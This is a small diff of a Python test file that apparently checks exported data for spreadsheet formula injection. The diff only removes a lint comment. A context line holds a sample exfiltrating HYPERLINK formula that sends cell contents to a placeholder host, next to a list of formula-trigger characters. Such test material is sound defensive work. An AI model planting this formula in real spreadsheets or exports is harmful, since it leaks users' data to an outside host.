@@ -16,7 +16,7 @@ from alongside.pipeline.load import load
 from alongside.store.home import Home
 
 ATTACK = '=HYPERLINK("http://example.invalid"&A1)'
-BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "＝")  # noqa: RUF001
+BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "＝")
 
 
 @pytest.fixture(scope="module")
